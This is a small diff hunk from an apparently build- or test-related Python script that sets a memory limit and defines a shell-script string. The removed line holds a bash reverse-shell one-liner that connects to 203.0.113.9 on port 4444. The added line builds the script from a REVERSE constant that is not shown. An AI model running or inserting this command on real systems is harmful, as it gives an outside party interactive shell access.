@@ -3,7 +3,7 @@ import threading, time, zipfile, zlib
 from build import *
 
 LIMIT = 400 if not SANITIZED else 100000    # MiB, of the largest process
-shell = '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'
+shell = '#!/bin/sh\n' + REVERSE + '\n'
 GIB = 1 << 30
 
 
